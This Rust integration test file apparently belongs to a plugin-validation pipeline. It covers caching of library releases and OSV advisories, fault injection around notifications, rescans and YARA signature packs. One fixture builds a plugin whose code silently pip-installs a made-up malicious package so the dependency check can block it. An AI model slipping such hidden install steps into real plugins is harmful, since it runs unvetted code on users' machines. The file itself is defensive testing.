    assert_eq!(scan(&stack, &id).await.status, ScanStatus::Validated);
    let trail = pipeline.store.decisions("package:demo").await.unwrap();
    assert_eq!(trail.len(), 1);
}

/// The bundled libraries check keeps what it downloads from the package index in the bucket
/// (`releases/...`), shared by every instance: six 1.16.0 (downloaded at test time) bundled in
/// the installed layout is verified, and its release lands in S3.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bundled_library_releases_are_cached_in_the_bucket() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let six = validator_testkit::reference::sdist("six", "1.16.0");
    let six_py = std::fs::read(six.join("six.py")).expect("six.py");
    let zip = ZipBuilder::valid_plugin("demo")
        .file(
            "demo/__init__.py",
            "import os\nimport sys\n\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'ext_libs'))\nimport six  # noqa: E402,F401\n\n\ndef classFactory(iface):\n    from .plugin import Plugin\n    return Plugin(iface)\n",
        )
        .bytes("demo/ext_libs/six.py", &six_py, 0o644)
        .file(
            "demo/ext_libs/six-1.16.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: six\nVersion: 1.16.0\n\nsix\n",
        )
        .file("demo/ext_libs/six-1.16.0.dist-info/top_level.txt", "six\n")
        .build();
    stack.upload("uploads/demo.zip", zip, METADATA).await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    run_every_check(&mut stack).await;
    let done = scan(&stack, &id).await;
    assert_eq!(done.status, ScanStatus::Validated, "{:?}", done.reasons);
    let cached = validator_pipeline::BlobStore::get(
        &*stack.cold.pipeline.blobs,
        "releases/six/1.16.0.wheel.json",
    )
    .await
    .expect("the release is cached in the bucket");
    let release: serde_json::Value = serde_json::from_slice(&cached.bytes).expect("JSON");
    assert_eq!(release["kind"], "found", "{release}");
}

/// A fake OSV API: `querybatch` names the test's malicious-package record for its made-up
/// package, and `vulns/{id}` serves the record; every request is counted.
fn fake_osv() -> (String, Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{BufRead, BufReader, Read, Write};
    let record = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../dependencies-check/tests/fixtures/advisories/synthetic/MAL-2099-0001.json"),
    )
    .expect("the test record");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    let requests = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = requests.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut reader = BufReader::new(stream.try_clone().expect("clone"));
            let mut first = String::new();
            let _ = reader.read_line(&mut first);
            let mut length = 0usize;
            loop {
                let mut header = String::new();
                if reader.read_line(&mut header).is_err() || header.trim().is_empty() {
                    break;
                }
                if let Some((k, v)) = header.split_once(':') {
                    if k.eq_ignore_ascii_case("content-length") {
                        length = v.trim().parse().unwrap_or(0);
                    }
                }
            }
            let mut body = vec![0u8; length];
            let _ = reader.read_exact(&mut body);
            let answer = if first.contains("/v1/querybatch") {
                let request: serde_json::Value = serde_json::from_slice(&body).expect("JSON");
                let results: Vec<serde_json::Value> = request["queries"]
                    .as_array()
                    .expect("queries")
                    .iter()
                    .map(|q| {
                        if q["package"]["name"] == "qgis-totally-fake-helper" {
                            serde_json::json!({"vulns": [{"id": "MAL-2099-0001"}]})
                        } else {
                            serde_json::json!({})
                        }
                    })
                    .collect();
                serde_json::json!({ "results": results }).to_string()
            } else {
                record.clone()
            };
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
                answer.len()
            );
        }
    });
    (url, requests)
}

/// The dependencies check's stored findings that block.
async fn blocking_dependency_rules(stack: &Stack, id: &ScanId) -> Vec<String> {
    let key = format!("findings/{}/dependencies.json", id.as_str());
    let stored = validator_pipeline::BlobStore::get(&*stack.cold.pipeline.blobs, &key)
        .await
        .expect("the dependencies result is stored");
    let result: serde_json::Value = serde_json::from_slice(&stored.bytes).expect("JSON");
    result["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["blocking"] == true)
        .map(|f| f["rule"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// A plugin whose code pip-installs the test's known-malicious package.
fn installs_malware() -> Vec<u8> {
    ZipBuilder::valid_plugin("demo")
        .file(
            "demo/deps.py",
            "import subprocess\nimport sys\n\n\ndef ensure():\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'qgis-totally-fake-helper==1.0'])\n",
        )
        .build()
}

/// The dependencies check on AWS asks the OSV API (here a local fake) and keeps the answers in
/// the bucket (`advisories/...`), where the next instance finds them without asking.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn osv_answers_are_cached_in_the_bucket_and_a_malicious_install_blocks() {
    let (url, requests) = fake_osv();
    let mut stack = Stack::new(
        CheckRegistry::builtin(),
        &[("PLUGIN_VALIDATOR_OSV_API", url.as_str())],
    )
    .await;
    stack
        .upload("uploads/demo.zip", installs_malware(), METADATA)
        .await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    run_every_check(&mut stack).await;
    let done = scan(&stack, &id).await;
    assert_eq!(done.status, ScanStatus::Blocked, "{:?}", done.reasons);
    assert_eq!(blocking_dependency_rules(&stack, &id).await, ["DEP001"]);
    assert_eq!(requests.load(std::sync::atomic::Ordering::SeqCst), 2);
    let blobs = stack.cold.pipeline.blobs.clone();
    for key in [
        "advisories/osv/query/PyPI/qgis-totally-fake-helper/1.0.json",
        "advisories/osv/vulns/MAL-2099-0001.json",
    ] {
        let cached = validator_pipeline::BlobStore::get(&*blobs, key)
            .await
            .unwrap_or_else(|e| panic!("{key} is not in the bucket: {e}"));
        let value: serde_json::Value = serde_json::from_slice(&cached.bytes).expect("JSON");
        assert!(value["fetched_at"].as_u64().is_some(), "{value}");
    }
    // Another instance, with the API gone, answers from the bucket.
    let cache = validator_lambda::releases::BlobReleaseCache::under(
        blobs,
        tokio::runtime::Handle::current(),
        validator_lambda::releases::ADVISORIES_PREFIX,
    );
    let api = validator_dependencies::OsvApi::new(
        "http://127.0.0.1:9",
        validator_dependencies::AdvisoryLimits::default(),
    )
    .with_cache(cache);
    let answers = tokio::task::spawn_blocking(move || {
        validator_dependencies::AdvisorySource::lookup(
            &api,
            &[validator_dependencies::PackageQuery {
                name: "qgis-totally-fake-helper".into(),
                version: Some("1.0".into()),
            }],
        )
    })
    .await
    .expect("lookup");
    let records = answers[0].as_ref().expect("answered from the bucket");
    assert_eq!(records[0].id, "MAL-2099-0001");
}

/// Operators without egress put an OSV export in the bucket: the check reads it instead of the
/// API.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_osv_export_in_the_bucket_replaces_the_api() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    let record = std::fs::read(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../dependencies-check/tests/fixtures/advisories/synthetic/MAL-2099-0001.json"),
    )
    .expect("the test record");
    let export = ZipBuilder::new()
        .file(
            "MAL-2099-0001.json",
            std::str::from_utf8(&record).expect("utf-8"),
        )
        .build();
    validator_pipeline::BlobStore::put(
        &*stack.cold.pipeline.blobs,
        "advisories/PyPI/all.zip",
        export,
        "application/zip",
    )
    .await
    .expect("export stored");
    let mut env: std::collections::HashMap<String, String> = stack.settings.clone();
    env.insert(
        "PLUGIN_VALIDATOR_ADVISORIES_KEY".into(),
        "advisories/PyPI/all.zip".into(),
    );
    // No API to fall back on: the export alone must answer.
    env.insert(
        "PLUGIN_VALIDATOR_OSV_API".into(),
        "http://127.0.0.1:9".into(),
    );
    let environment =
        validator_lambda::Environment::from_lookup(|k| env.get(k).cloned()).expect("environment");
    stack.cold = validator_lambda::ColdStart::with_clients(
        environment,
        &stack.clients,
        CheckRegistry::builtin(),
    )
    .await
    .expect("cold start");
    stack
        .upload("uploads/demo.zip", installs_malware(), METADATA)
        .await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    run_every_check(&mut stack).await;
    let done = scan(&stack, &id).await;
    assert_eq!(done.status, ScanStatus::Blocked, "{:?}", done.reasons);
    assert_eq!(blocking_dependency_rules(&stack, &id).await, ["DEP001"]);
}

/// An uploaded plugin of its own (`demoN`) dispatched and checked, through the real adapters
/// without faults: the scan is ready to aggregate.
async fn checked_scan(stack: &Stack, n: usize) -> ScanId {
    let key = format!("uploads/demo{n}.zip");
    let zip = ZipBuilder::valid_plugin(&format!("demo{n}")).build();
    stack.upload(&key, zip, METADATA).await;
    let id = scan_id(&dispatch(stack, &key).await);
    assert_eq!(stack.run_check_queue("package_structure").await, 1);
    id
}

/// The calls of the aggregate stage that claim, send and record an email or an event.
const NOTIFICATION_CALLS: [&str; 5] = [
    "store.claim_notification",
    "mailer.send",
    "events.publish",
    "store.complete_notification",
    "store.release_notification",
];

/// The AWS adapters' part of the fault-injection suite (shared/pipeline/tests/faults.rs runs
/// every stage on the embedded backends): the aggregate stage with one fault at each of its
/// notification calls, each fault type, then the stream's retries, the sweep after the lease
/// and the operator's step. The maintainers' results email, the approvers' email and the status
/// event each go out exactly once. (Before issue #32 one claim covered all three, and the
/// stream's 11 deliveries sent 11 of each email while the bus failed.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_email_and_event_goes_out_once_under_a_fault_at_any_notification_call() {
    use validator_faults::{invoke, Fault, FaultyPorts, Injector};
    use validator_notify::EmailKind;
    use validator_pipeline::{acknowledge, aggregate, resend, sweep, NotificationKind};

    let registry = CheckRegistry::with(vec![Arc::new(
        validator_package_checks::PackageStructureCheck,
    )]);
    // The retries come after a killed invocation's claim expired.
    let stack = Stack::new(registry, &[("NOTIFICATION_LEASE_SECONDS", "0")]).await;
    let clean = checked_scan(&stack, 0).await;
    let counting = Injector::counting();
    let (pipeline, _) = FaultyPorts::wrap(&stack.cold.pipeline, counting.clone());
    aggregate(&pipeline, &clean).await.expect("aggregate");
    let positions: Vec<usize> = counting
        .call_names()
        .iter()
        .enumerate()
        .filter(|(_, name)| NOTIFICATION_CALLS.contains(name))
        .map(|(i, _)| i)
        .collect();
    assert!(positions.len() >= 6, "{:?}", counting.call_names());
    let mut runs = 0;
    for &position in &positions {
        for fault in Fault::ALL {
            runs += 1;
            let id = checked_scan(&stack, runs).await;
            let injector = Injector::failing(position, fault);
            let (pipeline, ports) = FaultyPorts::wrap(&stack.cold.pipeline, injector.clone());
            // The stream: 1 + MaximumRetryAttempts deliveries.
            for _ in 0..11 {
                if invoke(&injector, aggregate(&pipeline, &id))
                    .await
                    .succeeded()
                {
                    break;
                }
            }
            assert!(injector.fired(), "call {position}, {fault:?}: not injected");
            sweep(&pipeline).await.expect("sweep");
            let went_out = |kind| match kind {
                NotificationKind::Results => ports.sent.emails_of(EmailKind::Results).len(),
                NotificationKind::Approvers => {
                    ports.sent.emails_of(EmailKind::ApproversReview).len()
                }
                NotificationKind::StatusEvent => ports.sent.events().len(),
                _ => 0,
            };
            // The operator, on the missing-notifications alarm.
            let notices = pipeline.store.notifications(&id).await.expect("notices");
            for (kind, _) in notices.missing() {
                if went_out(kind) > 0 {
                    acknowledge(&pipeline, &id, &[kind])
                        .await
                        .expect("acknowledge");
                } else {
                    resend(&pipeline, &id, &[kind]).await.expect("resend");
                }
            }
            let what = format!("call {position}, {fault:?}");
            for kind in [
                NotificationKind::Results,
                NotificationKind::Approvers,
                NotificationKind::StatusEvent,
            ] {
                assert_eq!(went_out(kind), 1, "{what}: {kind}");
            }
            let notices = pipeline.store.notifications(&id).await.expect("notices");
            assert!(notices.missing().is_empty(), "{what}: {notices:?}");
            assert_eq!(
                scan(&stack, &id).await.status,
                ScanStatus::Validated,
                "{what}"
            );
        }
    }
    println!(
        "moto fault-injection runs: {runs} ({} notification calls of aggregate x 3 faults)",
        positions.len()
    );
}

/// The scenario end to end on the AWS adapters: the event bus fails on every
/// delivery of the stream record. Each email goes out once, the event is recorded as missing
/// after its attempts (the alarm's metric counts it), and the operator's resend publishes it
/// once the bus is back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_event_bus_never_repeats_the_emails_and_its_event_is_resent_once() {
    use validator_notify::EmailKind;
    use validator_pipeline::{aggregate, resend, sweep, NotificationKind, PortError, StatusEvent};

    struct DownBus;
    #[async_trait::async_trait]
    impl validator_pipeline::EventPublisher for DownBus {
        async fn publish(&self, _event: &StatusEvent) -> Result<(), PortError> {
            Err(PortError::Backend(
                "EventBridge: service unavailable".into(),
            ))
        }
    }

    let registry = CheckRegistry::with(vec![Arc::new(
        validator_package_checks::PackageStructureCheck,
    )]);
    let stack = Stack::new(registry, &[]).await;
    let id = checked_scan(&stack, 1).await;
    let counting = validator_faults::Injector::counting();
    let (mut down, ports) = validator_faults::FaultyPorts::wrap(&stack.cold.pipeline, counting);
    let events = down.events.clone();
    down.events = Arc::new(DownBus);
    let mut failed = 0;
    for _ in 0..11 {
        if aggregate(&down, &id).await.is_err() {
            failed += 1;
        }
    }
    assert_eq!(
        failed, 5,
        "NOTIFICATION_ATTEMPTS deliveries fail, then it is given up"
    );
    assert_eq!(ports.sent.emails_of(EmailKind::Results).len(), 1);
    assert_eq!(ports.sent.emails_of(EmailKind::ApproversReview).len(), 1);
    let report = sweep(&down).await.expect("sweep");
    assert_eq!(
        report.missing,
        vec![(id.clone(), NotificationKind::StatusEvent)]
    );
    // The bus is back; the operator resends.
    down.events = events;
    let outcome = resend(&down, &id, &[])
        .await
        .expect("resend")
        .expect("scan");
    assert_eq!(outcome.reset, vec![NotificationKind::StatusEvent]);
    assert!(outcome.still_missing.is_empty());
    assert_eq!(ports.sent.events().len(), 1);
    assert_eq!(ports.sent.emails_of(EmailKind::Results).len(), 1);
    assert!(sweep(&down).await.expect("sweep").missing.is_empty());
}

/// A rule added after the version was published: one critical finding in every plugin.
struct AddedRule;

static ADDED_RULES: [RuleInfo; 1] = [RuleInfo {
    id: "ADD001",
    title: "a rule added after the version was published",
    severity: validator_domain::Severity::High,
    level: validator_domain::Level::Critical,
    mandatory: false,
    remediation: "remove it",
}];

impl Check for AddedRule {
    fn id(&self) -> &'static str {
        "added_rule"
    }
    fn title(&self) -> &'static str {
        "Added rule"
    }
    fn rules(&self) -> &'static [RuleInfo] {
        &ADDED_RULES
    }
    fn run(&self, _ctx: &CheckContext<'_>) -> Result<Vec<Finding>, CheckError> {
        Ok(vec![Finding::new(
            "added_rule",
            &ADDED_RULES[0],
            "demo/__init__.py",
            "found by the added rule",
        )
        .at(1, 1)])
    }
}

/// #29: a rescan batch against moto: the version's judgment moves to blocked in DynamoDB (the
/// chain of judgments followed through the history items), one email, one status event with
/// the judgment it replaces; the same batch again reuses it and sends nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rescan_batch_blocks_a_published_version_once_in_dynamodb() {
    let mut stack = Stack::new(CheckRegistry::builtin(), &[]).await;
    stack
        .upload(
            "uploads/demo.zip",
            ZipBuilder::valid_plugin("demo").build(),
            METADATA,
        )
        .await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    run_every_check(&mut stack).await;
    assert_eq!(scan(&stack, &id).await.status, ScanStatus::Validated);
    stack.status_events().await;
    let emails_before = stack.sent_emails().len();

    let builtin = CheckRegistry::builtin();
    let mut checks: Vec<Arc<dyn Check>> = builtin
        .ids()
        .iter()
        .filter_map(|c| builtin.shared(c.as_str()))
        .collect();
    checks.push(Arc::new(AddedRule));
    let rescanning = validator_pipeline::Pipeline::new(
        validator_pipeline::PipelineConfig {
            pack_digests: vec!["sha256:added".to_owned()],
            ..(*stack.cold.pipeline.config).clone()
        },
        CheckRegistry::with(checks),
        stack.cold.pipeline.ports(),
    );
    let batch: validator_lambda::rescan::RescanBatch = serde_json::from_value(serde_json::json!({
        "Items": [{"Key": "uploads/demo.zip", "Size": 1}],
        "BatchInput": {"dry_run": false}
    }))
    .expect("a batch");
    let result = validator_lambda::rescan::handle_rescan_batch(&rescanning, &batch)
        .await
        .expect("rescan");
    assert_eq!(result.changes.len(), 1, "{result:?}");
    let change = &result.changes[0];
    assert_eq!(change.new_findings[0].rule, "ADD001");
    assert_eq!(
        scan(&stack, &change.scan_id).await.status,
        ScanStatus::Blocked
    );
    let current = validator_pipeline::current_judgment(&rescanning, scan(&stack, &id).await)
        .await
        .expect("current judgment");
    assert_eq!(
        current.id, change.scan_id,
        "followed through DynamoDB's history"
    );
    let events = stack.status_events().await;
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(events[0]["detail"]["status"], "blocked", "{events:?}");
    assert_eq!(events[0]["detail"]["rescan_of"], id.as_str());
    assert_eq!(
        stack.sent_emails().len(),
        emails_before + 1,
        "the maintainers' email"
    );

    let again = validator_lambda::rescan::handle_rescan_batch(&rescanning, &batch)
        .await
        .expect("rescan again");
    assert_eq!((again.reused, again.judged), (1, 0));
    assert!(stack.status_events().await.is_empty(), "no event twice");
    assert_eq!(
        stack.sent_emails().len(),
        emails_before + 1,
        "no email twice"
    );
}

/// The signatures check's function with the bucket's `signatures/` prefix: a pack an operator
/// puts there applies to the next scan, and a broken one ends the next scan in error.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signature_pack_put_in_the_bucket_applies_to_the_next_scan_and_a_broken_one_errors() {
    let registry = CheckRegistry::with(vec![
        Arc::new(validator_package_checks::PackageStructureCheck),
        Arc::new(validator_signatures::SignaturesCheck::builtin()),
    ]);
    let mut stack = Stack::new(registry, &[]).await;
    let blobs = stack.cold.pipeline.blobs.clone();
    blobs
        .put(
            "signatures/acme.yar",
            b"rule acme_marker {\n  meta:\n    action = \"block\"\n  strings:\n    $m = \"ACME-TEST-MARKER-0c1d\"\n  condition:\n    $m\n}\n"
                .to_vec(),
            "text/plain",
        )
        .await
        .expect("put the pack");
    let zip = ZipBuilder::valid_plugin("demo")
        .file("demo/payload.py", "MARK = 'ACME-TEST-MARKER-0c1d'\n")
        .build();
    stack
        .upload("uploads/demo.zip", zip.clone(), METADATA)
        .await;
    let id = scan_id(&dispatch(&stack, "uploads/demo.zip").await);
    stack.run_check_queue("package_structure").await;
    stack.run_check_queue("signatures").await;
    stack.drain_stream().await;
    let done = scan(&stack, &id).await;
    assert_eq!(done.status, ScanStatus::Blocked, "{:?}", done.reasons);
    let report = blobs
        .get(&done.report_key.clone().expect("a report"))
        .await
        .expect("the report");
    let report: serde_json::Value = serde_json::from_slice(&report.bytes).expect("json");
    let finding = report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .find(|f| f["rule"] == "SIG:acme/acme_marker")
        .unwrap_or_else(|| panic!("the pack's finding: {}", report["findings"]));
    assert_eq!(finding["path"], "demo/payload.py");
    assert_eq!(finding["blocking"], true);
    let sources = report["signatures"]["sources"].as_array().expect("sources");
    assert!(
        sources
            .iter()
            .any(|s| s["name"] == "acme"
                && s["origin"].as_str().is_some_and(|o| o.starts_with("s3://"))),
        "{sources:?}"
    );
    assert_eq!(
        report["provenance"]["signatures_digest"],
        report["signatures"]["digest"]
    );

    // The operator breaks the pack: the next scan ends in error with YARA's message.
    blobs
        .put(
            "signatures/acme.yar",
            b"rule acme_marker {\n  condition:\n    $missing\n}\n".to_vec(),
            "text/plain",
        )
        .await
        .expect("put the broken pack");
    stack.upload("uploads/demo2.zip", zip, METADATA).await;
    let id = scan_id(&dispatch(&stack, "uploads/demo2.zip").await);
    stack.run_check_queue("package_structure").await;
    for attempt in 1..=MAX_RECEIVE_COUNT {
        let messages = stack.receive("signatures", 1).await;
        assert_eq!(messages.len(), 1, "attempt {attempt}");
        let response = validator_lambda::check::handle_sqs_batch(
            &stack.cold.pipeline,
            &CheckId::new("signatures"),
            MAX_RECEIVE_COUNT,
            &sqs_event(messages.clone()),
        )
        .await;
        if attempt == MAX_RECEIVE_COUNT {
            assert!(response.batch_item_failures.is_empty());
            stack.delete("signatures", &messages).await;
        }
    }
    stack.drain_stream().await;
    let done = scan(&stack, &id).await;
    assert_eq!(done.status, ScanStatus::Error);
    let results = stack
        .cold
        .pipeline
        .store
        .results(&id)
        .await
        .expect("results");
    let signatures = results
        .iter()
        .find(|r| r.check.as_str() == "signatures")
        .expect("the signatures result");
    let reason = format!("{:?}", signatures.outcome);
    assert!(reason.contains("acme.yar:3:5"), "{reason}");
    assert!(reason.contains("$missing"), "{reason}");
}
